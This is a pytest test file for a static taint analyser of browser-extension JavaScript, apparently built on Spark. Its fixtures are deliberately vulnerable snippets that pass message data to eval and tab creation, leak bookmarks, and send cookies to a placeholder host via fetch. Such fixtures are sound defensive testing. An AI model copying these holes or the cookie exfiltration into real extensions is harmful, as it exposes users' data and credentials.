"""Scripts: parsing, scopes, branches, control flow, reaching definitions, and whole analyses, against golden rows."""

import random

import pytest
from pyspark.sql import functions as F

from quern.operators import api, graph, programs
from quern.sources import script_facts, script_parser


def _rows(code, fact):
    return [r for r in script_facts.facts_of(code) if r[0] == fact]


def _after(code, text):
    """What follows a node of the control flow, by its text."""
    labels = {r[1]: " ".join(code[r[4] : r[5]].split()) for r in _rows(code, "node")}
    here = {k for k, v in labels.items() if v == text}
    return [labels.get(r[2], "exit") for r in sorted((r for r in _rows(code, "flow") if r[1] in here), key=lambda r: r[4])]


WHILE = "var i = 0; while (i < n) { acc = acc + i; i = i + 1; } sink(acc);"
FOR = "for (var i = 0; i < 3; i++) { acc = acc + i; } sink(acc);"
OF = "for (const x of list) { if (!x) continue; acc = x; } sink(acc);"


@pytest.mark.parametrize(
    ("code", "text", "want"),
    [
        (WHILE, "i = i + 1", ["i < n"]), (WHILE, "i < n", ["acc = acc + i", "sink(acc)"]),
        (FOR, "acc = acc + i", ["i++"]), (FOR, "i++", ["i < 3"]), (FOR, "i < 3", ["acc = acc + i", "sink(acc)"]),
        ("do { acc = acc + 1; } while (acc < 3); sink(acc);", "acc < 3", ["acc = acc + 1", "sink(acc)"]),
        (OF, "!x", [OF[:-11], "acc = x"]), (OF, "acc = x", [OF[:-11]]),
        ("for (;;) { acc = 1; break; } sink(acc);", "acc = 1", ["sink(acc)"]),
        ("switch (k) { case 1: a(); case 2: b(); break; default: c(); } d();", "a()", ["b()"]),
        ("switch (k) { case 1: a(); break; default: c(); } d();", "k", ["a()", "c()"]),
        ("l: for (;;) { for (;;) { a(); break l; } } d();", "a()", ["d()"]),
        ("try { a(); } catch (e) { b(); } finally { c(); } d();", "a()", ["c()"]), ("try { a(); } catch (e) { b(); } finally { c(); } d();", "c()", ["d()"]),
        ("function f() { if (x) return 1; return 2; }", "x", ["1", "2"]),
    ],
)
def test_control_flow(code, text, want):
    assert _after(code, text) == want


@pytest.mark.parametrize(
    ("test", "want"),
    [
        ('"foo" === "foo"', "TRUE"), ("1 !== 1", "FALSE"), ('!""', "TRUE"), ("false && unknown", "FALSE"), ("true || unknown", "TRUE"), ("unknown", "UNKNOWN"), ("unknown && false", "FALSE"),
        ('"1" === "1.0"', "FALSE"), ('1 === "1"', "FALSE"), ('1 == "1"', "TRUE"), ('"10" < "9"', "TRUE"), ("10 < 9", "FALSE"), ("null == undefined", "TRUE"), ("null === undefined", "FALSE"), ("null ?? 1", "TRUE"), ("({})", "TRUE"), ("undefined", "FALSE"), ("0x10 == 16", "TRUE"), ("`a`", "TRUE"), ("void 0", "FALSE"), ("unknown || 0", "UNKNOWN"),
    ],
)
def test_branches(test, want):
    assert [r[8] for r in _rows(f"if ({test}) {{ a(); }}", "branch")] == [want]


@pytest.mark.parametrize(
    "code",
    [
        "a?.b?.[c]?.(d)", "x=a?b:c?.5:1", "for(const [a,{b=2,...c}] of await d);", "async x=>await x", "(a,{b},...c)=>({a})", "class A extends B{static #x=1; get y(){return this.#x} static{1} async*z(){yield* 1}}",
        "`a${b+`c${d}`}e`", "/[/]/.test(a)/2", "label: for(;;){continue label}", "if(a)b\nelse c", "let\nx=1", "({get:1,set,async(){},get x(){return 1}})", "new a.b(c).d", "a\n++b", "export * as q from 'z'; import d,{e as f} from 'y'",
        "x = y / 2 / 3", "async()=>{for await(const x of y){}}", "f(a,)", "a**b**c", "({a=1}={})=>a", "#!/bin/node\nx", "a = b ? (c, d) : e => f", "var \\u0061b = 1_000n", "x = {async, await: 1}; yield_ = 2",
    ],
)
def test_syntax(code):
    tree, mode, error = script_parser.parse(code)
    assert error is None and mode in ("script", "module") and tree["body"]


def test_broken_scripts():
    assert script_parser.parse("")[1] == "script"
    tree, mode, error = script_parser.parse("good();\nvar = 3;\nalso();")
    assert mode == "loose" and error and len(tree["body"]) >= 2
    assert script_parser.parse("'")[1] == "failed" and script_facts.facts_of("'")[0][6] == "failed"


def test_scopes():
    scopes = _rows("var pad = 0; function foo() { { let a = 1; } } const bar = function () {}; const baz = () => {}; class C { m() {} } for (;;) {} try {} catch (e) {} switch (x) {} with (y) {}", "scope")
    kinds = [r[6] for r in scopes]
    assert kinds.count("page") == 1 and kinds.count("function") == 4 and {"block", "class", "for", "catch", "switch", "with"} <= set(kinds)
    assert {r[7] for r in scopes if r[6] == "function"} == {"foo", "anonymous_0", "anonymous_1", "anonymous_2"}


def test_reaching_definitions():
    code = "var a = 1; if (x) { a = 2; } f(a); a = 3; g(a);"
    labels = {r[1]: code[r[4] : r[5]] for r in _rows(code, "node")}
    got = {}
    for r in _rows(code, "reaches"):
        if labels[r[1]] == "a":
            got.setdefault(r[1], set()).add(labels[r[2]])
    assert sorted(map(sorted, got.values())) == [["a = 1", "a = 2"], ["a = 3"]]


def test_normal_form():
    kinds = [r[6] for r in _rows("a = 1, b = 2;; x => y; c = (d(), e());", "node")]
    assert "EmptyStatement" not in kinds and "SequenceExpression" not in kinds and kinds.count("ReturnStatement") == 1
    assert kinds.count("ExpressionStatement") == 5


@pytest.mark.parametrize(("code", "want"), [("f(`a${x}`)", "PARTIAL"), ("f('u?' + x)", "PARTIAL"), ("f(x + y)", "FULL"), ("f(x)", "FULL"), ("f({})", "no_string"), ("f(() => 1)", "callable"), ("f(1)", "no_string"), ("f(`${x}`)", "FULL")])
def test_argument_hints(code, want):
    assert _rows(code, "arg")[0][7] == want


LEAK = """
const port = (text) => "tabs:" + text;
chrome.runtime.onMessageExternal.addListener(function (ask, from, answer) {
  if (!from) return;
  chrome.bookmarks.getTree(function (tree) {
    let out = [];
    for (const top of tree) { out.push({ label: port(top.title) }); }
    answer(out);
  });
  return true;
});
"""
OTHER = """
const { local } = chrome.storage;
function send(v) { return fetch("https://x/" + v); }
window.addEventListener("message", (e) => { local.set({ k: e.data }); eval(e.data); eval(1); setTimeout(() => e.data, 1); document.title = e.data; });
local.get("k", (r) => { chrome.tabs.create({ url: r.k }); });
chrome.cookies.get({}, async (c) => { send(await crypto.subtle.digest("SHA-256", c)); el.innerHTML = c; });
"""


@pytest.fixture(scope="module")
def flows(spark):
    """The flows of all packages of this module, by package: one analysis."""
    packages = {case: scripts for case, (scripts, _) in CASES.items()} | {"leak": {"a": LEAK}, "other": {"b": OTHER}} | FRAMES
    rows = [(package, script, code) for package, scripts in packages.items() for script, code in scripts.items()]
    facts = graph.table(script_facts.extract(spark.createDataFrame(rows, "package string, script string, code string")), "fact")
    assert "PartitionFilters: [isnotnull(fact" in script_facts.tables(facts)["call"]._jdf.queryExecution().toString()  # each table reads its own part
    frames = spark.createDataFrame([("one frame", "f", 0, "x"), ("one frame", "f", 1, "y"), ("two frames", "f", 0, "x"), ("two frames", "g", 1, "y")], "package string, frame string, ord int, script string")
    out = {package: [] for package in packages}
    t = script_facts.tables(graph._cut(script_facts.extract(spark.createDataFrame([("known", *x) for x in KNOWN.items()], "package string, script string, code string"))))
    shapes = programs.function_shapes(t, graph._cut(programs.owners(t["node"])))
    known = graph._cut(shapes.groupBy(F.col("script").alias("effect")).agg(F.max_by("shape", "size").alias("shape")))
    for r in api.analyse(script_facts.tables(facts), frames=frames, known=known).collect():
        out[r["package"]].append(r)
    return out


def test_leak_from_end_to_end(flows):
    assert {(r["source_type"], r["sink_type"], r["flow_type"]) for r in flows["leak"]} == {("CHROME_BOOKMARK_INFO", "CHROME_RUNTIME_ONMESSAGEEXTERNAL_SENDRESPONSE", "DATA_LEAK")}


def test_storage_events_and_sanitizers(flows):
    got = {(r["source_type"], r["sink_type"]) for r in flows["other"]}
    assert {("WINDOW_MESSAGE_EVENT", "CHROME_LOCAL_STORAGE"), ("WINDOW_MESSAGE_EVENT", "EVAL"), ("WINDOW_MESSAGE_EVENT", "CHROME_TABS_CREATE_OPTIONS")} <= got
    assert not any(s == "TIME_EVAL" for _, s in got) and not any(a == "CHROME_COOKIES_INFO" and b.startswith("FETCH") for a, b in got)


def test_nothing(spark):
    empty = spark.createDataFrame([], "package string, script string, code string")
    assert script_facts.extract(empty).count() == 0
    one = script_facts.extract(spark.createDataFrame([("p", "s", None)], "package string, script string, code string"))
    assert one.filter(F.col("fact") == "script").first()["kind"] == "script"


@pytest.mark.parametrize(
    ("selector", "want"),
    [
        ("CallExpression", ["a.b(1, x)", "f(y)", "g()"]), ("IfStatement CallExpression", ["f(y)", "g()"]), ("CallExpression > Identifier", ["f", "x", "y", "g"]), ('Identifier[name="x"]', ["x", "x"]), ("Literal + Identifier", ["x"]), ("Literal ~ Identifier", ["x"]),
        ("CallExpression:has(MemberExpression)", ["a.b(1, x)"]), ("CallExpression:not(:has(Literal))", ["f(y)", "g()"]), (":is(Literal, MemberExpression)", ["a.b", "1"]), ("Identifier[name=/^[fg]$/]", ["f", "g"]), ("CallExpression > *:nth-child(2)", ["x"]),
    ],
)
def test_selectors(spark, selector, want):
    from quern.operators import selectors

    code = "a.b(1, x); if (x) { f(y); g(); }"
    rows = [("p", "s", r[1], r[2], r[7], r[3], r[6], r[8], r[4], r[5]) for r in _rows(code, "node")]
    nodes = spark.createDataFrame(rows, "package string, script string, node long, parent long, field string, ord long, type string, text string, start long, stop long").coalesce(1)
    got = [code[r["start"] : r["stop"]] for r in selectors.select(nodes, selector).orderBy("node").collect()]
    assert sorted(got) == sorted(want)


def test_selectors_are_checked():
    from quern.operators import selectors

    for bad in ("", "A >", "A[", "A:has(B"):
        with pytest.raises(ValueError):
            selectors.parse(bad)


def test_command_line(spark, tmp_path):
    import zipfile

    from quern.__main__ import main

    (tmp_path / "in").mkdir()
    with zipfile.ZipFile(tmp_path / "in" / "a.zip", "w") as z:
        z.writestr("manifest.json", "{}")
        z.writestr("background.js", LEAK)
        z.writestr("page/p.html", "<script>eval(location.href)</script>")
    with zipfile.ZipFile(tmp_path / "in" / "b.zip", "w") as z:
        z.writestr("manifest.json", '{"content_scripts": [{"matches": ["https://*.a.example/*"], "js": ["./one.js", "two.js"]}], "background": {"service_worker": "bg.js"}}')
        z.writestr("one.js", "function go(v) { chrome.runtime.sendMessage({ action: 'open', url: v }); }")
        z.writestr("two.js", HEAR % "go(e.data);")
        z.writestr("bg.js", OPEN + " chrome.cookies.getAll({}, (c) => { document.title = c; });")
    main([str(tmp_path / "in"), str(tmp_path / "out")])
    rows = spark.read.json(str(tmp_path / "out" / "flows")).collect()
    told = {(r["source_script"], r["sink_script"], r["sink_type"], tuple(r["source_families"]), tuple(r["sink_families"]), r["feasible"], r["crossing"], r["exposure"], r["severity"]) for r in rows if r["package"].endswith("b.zip")}
    assert told == {("two.js", "bg.js", "CHROME_TABS_CREATE_OPTIONS", ("CS",), ("BG",), True, True, "CONTENT_SCRIPT_MATCHES", "HIGH")}
    assert [r["feasible"] for r in rows if r["source_type"] == "DOCUMENT_URL"] == [False]
    got = {(r["source_type"], r["sink_script"]) for r in rows if not r["package"].endswith("b.zip")}
    assert got == {("CHROME_BOOKMARK_INFO", "background.js"), ("DOCUMENT_URL", ".inline-scripts/page_p.inline-0.js")}
    assert "<table>" in "".join(r["value"] for r in spark.read.text(str(tmp_path / "out" / "page")).collect())


HEAR = 'window.addEventListener("message", (e) => { %s });'
OPEN = 'chrome.runtime.onMessage.addListener((m) => { if (m.action === "open") chrome.tabs.create({ url: m.url }); });'
#: Packages of scripts, and the (source, sink, script of the sink) of their flows that matter.
CASES = {
    "message": ({"a": HEAR % 'chrome.runtime.sendMessage({ action: "open", url: e.data.u, note: "x" });', "b": OPEN}, {("WINDOW_MESSAGE_EVENT", "CHROME_TABS_CREATE_OPTIONS", "b")}),
    "message, another property": ({"a": HEAR % 'chrome.runtime.sendMessage({ action: "open", url: "x", note: e.data.u });', "b": OPEN}, set()),
    "message, another action": ({"a": HEAR % 'chrome.runtime.sendMessage({ action: "shut", url: e.data.u });', "b": OPEN}, set()),
    "message, unknown action": ({"a": HEAR % "chrome.runtime.sendMessage({ action: e.name, url: e.data.u });", "b": OPEN}, {("WINDOW_MESSAGE_EVENT", "CHROME_TABS_CREATE_OPTIONS", "b")}),
    "message, cases": ({"a": HEAR % 'chrome.runtime.sendMessage({ type: "q", v: e.data });', "b": 'chrome.runtime.onMessage.addListener(({ type, v }) => { eval(v); }); chrome.runtime.onMessage.addListener((m) => { switch (m.type) { case "z": chrome.tabs.create({ url: m.v }); } });'}, {("WINDOW_MESSAGE_EVENT", "EVAL", "b")}),
    "answer": ({"a": 'chrome.runtime.sendMessage({ type: "q" }, (r) => { fetch("https://x/" + r.c); fetch("https://x/" + r.d); });', "b": 'chrome.runtime.onMessage.addListener((m, s, reply) => { chrome.cookies.getAll({}, (c) => { reply({ c: c, d: 1 }); }); });'}, {("CHROME_COOKIES_INFO", "FETCH_RESOURCE", "a")}),
    "import": ({"lib/a.js": "export function run(x) { eval(x); }", "b.js": 'import { run } from "./lib/a.js"; ' + HEAR % "run(e.data);"}, {("WINDOW_MESSAGE_EVENT", "EVAL", "lib/a.js")}),
    "whole module, passed on, returned": ({"a": 'import * as h from "./lib/h"; ' + HEAR % "eval(h.trim(e.data)); eval(h.trim('s'));", "lib/h.js": 'export { cut as trim } from "../core.js";', "core.js": "const cut = (s) => s.trim(); export { cut };"}, {("WINDOW_MESSAGE_EVENT", "EVAL", "a")}),
    "overwritten": ({"a": HEAR % 'let a = e.data; a = "1"; eval(a);'}, set()),
    "overwritten on one branch": ({"a": HEAR % 'let a = e.data; if (e.ok) { a = "1"; } eval(a);'}, {("WINDOW_MESSAGE_EVENT", "EVAL", "a")}),
    "carried round a loop": ({"a": HEAR % 'let a = "", b = ""; while (e.more) { eval(b); b = a; a = e.data; }'}, {("WINDOW_MESSAGE_EVENT", "EVAL", "a")}),
    "summed up": ({"a": HEAR % 'let a = ""; for (const x of e.data) { a += x; } eval(a);'}, {("WINDOW_MESSAGE_EVENT", "EVAL", "a")}),
    "another call": ({"a": "function id(x) { return x; } " + HEAR % 'let t = id(e.data); let u = id("safe"); eval(u);'}, set()),
    "the same call": ({"a": "function id(x) { return x; } " + HEAR % 'let t = id(e.data); let u = id("safe"); eval(t);'}, {("WINDOW_MESSAGE_EVENT", "EVAL", "a")}),
    "nested calls": ({"a": "function id(x) { return x; } function two(x) { return id(id(x)); } function none(x) { two(x); return 's'; } " + HEAR % "eval(none(e.data)); chrome.tabs.create({ url: two({ u: e.data }).u });"}, {("WINDOW_MESSAGE_EVENT", "CHROME_TABS_CREATE_OPTIONS", "a")}),
    "recursion": ({"a": "function f(n, v) { if (n) return f(n - 1, v); return v; } " + HEAR % 'eval(f(3, "s")); chrome.tabs.create({ url: f(3, e.data) });'}, {("WINDOW_MESSAGE_EVENT", "CHROME_TABS_CREATE_OPTIONS", "a")}),
    "captured variable": ({"a": "let x; function put(v) { x = v; } function get() { return x; } " + HEAR % "put(e.data); eval(get());"}, {("WINDOW_MESSAGE_EVENT", "EVAL", "a")}),
    "property of a property": ({"a": HEAR % 'const o = { p: {} }; o.p.q = e.data; eval(o.p.r); chrome.tabs.create({ url: o.p.q });'}, {("WINDOW_MESSAGE_EVENT", "CHROME_TABS_CREATE_OPTIONS", "a")}),
    "dead branch": ({"a": HEAR % 'if (false) { eval(e.data); } else { chrome.tabs.create({ url: e.data }); } while (1 > 2) { eval(e.data); }'}, {("WINDOW_MESSAGE_EVENT", "CHROME_TABS_CREATE_OPTIONS", "a")}),
    "all keys": ({"a": HEAR % "chrome.storage.local.set({ k: e.data });", "b": "chrome.storage.local.get((r) => { eval(r.k); });"}, {("WINDOW_MESSAGE_EVENT", "CHROME_LOCAL_STORAGE", "a"), ("WINDOW_MESSAGE_EVENT", "EVAL", "b")}),
    "no key, by promise": ({"a": HEAR % "chrome.storage.local.set({ k: e.data });", "b": "async function f() { const r = await chrome.storage.local.get(); eval(r.k); eval(r.z); }"}, {("WINDOW_MESSAGE_EVENT", "CHROME_LOCAL_STORAGE", "a"), ("WINDOW_MESSAGE_EVENT", "EVAL", "b")}),
    "other key": ({"a": HEAR % "chrome.storage.local.set({ k: e.data });", "b": 'chrome.storage.local.get(["other"], (r) => { eval(r.other); });'}, {("WINDOW_MESSAGE_EVENT", "CHROME_LOCAL_STORAGE", "a")}),
    "taken by patterns": ({"a": HEAR % "chrome.storage.local.set({ k: e.data, z: 's' });", "b": 'chrome.storage.local.get(["k", "z"], ({ z, k: [{ w = 1 }] }) => { eval(z); chrome.tabs.create({ url: w }); });'}, {("WINDOW_MESSAGE_EVENT", "CHROME_LOCAL_STORAGE", "a"), ("WINDOW_MESSAGE_EVENT", "CHROME_TABS_CREATE_OPTIONS", "b")}),
    "event taken by patterns": ({"a": 'window.addEventListener("message", ({ data: { x = 2 } }) => { eval(x); });'}, {("WINDOW_MESSAGE_EVENT", "EVAL", "a")}),
    "keys with defaults": ({"a": HEAR % "chrome.storage.local.set({ k: e.data });", "b": "chrome.storage.local.get({ k: 1, z: 2 }, (r) => { eval(r.k); });"}, {("WINDOW_MESSAGE_EVENT", "CHROME_LOCAL_STORAGE", "a"), ("WINDOW_MESSAGE_EVENT", "EVAL", "b")}),
    "changed": ({"a": HEAR % "chrome.storage.local.set({ k: e.data });", "b": "chrome.storage.onChanged.addListener((c) => { eval(c.k.newValue); eval(c.k.oldValue); eval(c.z.newValue); });"}, {("WINDOW_MESSAGE_EVENT", "CHROME_LOCAL_STORAGE", "a"), ("WINDOW_MESSAGE_EVENT", "EVAL", "b")}),
    "helper, renamed": ({"a": "function w2(q) { return registry(() => q); } " + HEAR % "eval(w2(e.data));"}, {("WINDOW_MESSAGE_EVENT", "EVAL", "a")}),
    "helper, changed": ({"a": "function w2(q) { return registry(() => q, 1); } " + HEAR % "eval(w2(e.data));"}, set()),
    "helper, other name bound": ({"a": "function w2(q, p) { return registry(() => p); } " + HEAR % "eval(w2(e.data));"}, set()),
    "helper that cleans": ({"a": "const tidy = (u) => { return u.trim().split('<').join(''); }; " + HEAR % "eval(tidy(e.data));"}, set()),
}
#: Known helpers, by what they do with their arguments.
KNOWN = {"flow": "function wrap(v) { return registry(() => v); }", "clean": "const esc = (s) => { return s.trim().split('<').join(''); };"}
#: How often a flow may be found: cases that also hold a place that must stay clean.
ONCE = ("answer", "whole module, passed on, returned", "no key, by promise", "changed")


FRAMES = {frame: {"x": "function run(v) { eval(v); }", "y": HEAR % "run(e.data);"} for frame in ("one frame", "two frames")}


def test_whole_analyses(flows):
    got = {case: {(r["source_type"], r["sink_type"], r["sink_script"]) for r in flows[case] if r["source_type"] != "STORAGE_ALL_ITEMS"} for case in CASES}
    assert {c: g for c, g in got.items() if g != CASES[c][1]} == {}
    for case in ONCE:
        assert len({r["sink_call"] for r in flows[case] if r["sink_type"] in ("EVAL", "FETCH_RESOURCE") and r["source_type"] != "STORAGE_ALL_ITEMS"}) == 1


def test_names_of_a_frame(flows):
    """What an earlier script of the frame declares is seen; another frame's isn't."""
    assert [r["sink_script"] for r in flows["one frame"]] == ["x"] and not flows["two frames"]


def test_innermost_range_by_sweep(spark):
    from quern.operators import valueflow

    rng = random.Random(4)
    ranges, points = [], []

    def fill(key, low, high, depth):
        at = low
        while at < high and depth < 5:
            stop = min(high, at + rng.randint(1, 12))
            ranges.append((key, len(ranges), at, stop))
            fill(key, at, stop, depth + 1 + rng.randint(0, 2))
            at = stop + rng.randint(0, 3)

    for key in ("a", "b"):
        fill(key, 0, 60, 0)
        points += [(key, len(points) + k, s, s + rng.randint(0, 2)) for k, s in enumerate(rng.choices(range(70), k=60))]
    points = [p for p in points if all(p[2] >= r[2] and p[3] <= r[3] or p[3] <= r[2] or p[2] >= r[3] or (p[2] <= r[2] and p[3] >= r[3]) for r in ranges if r[0] == p[0]) and p[2] < p[3]]
    got = valueflow.enclosing(spark.createDataFrame(points, "k string, point long, start long, stop long"), spark.createDataFrame(ranges, "k string, range long, start long, stop long"), ["k"])
    for r in got.collect():
        p = next(x for x in points if x[1] == r["point"])
        holds = [x for x in ranges if x[0] == p[0] and x[2] <= p[2] and p[3] <= x[3] and (x[2], x[3]) != (p[2], p[3])]
        assert (r["range"] is None) == (not holds) and (not holds or next(x[3] - x[2] for x in ranges if x[1] == r["range"]) == min(x[3] - x[2] for x in holds))
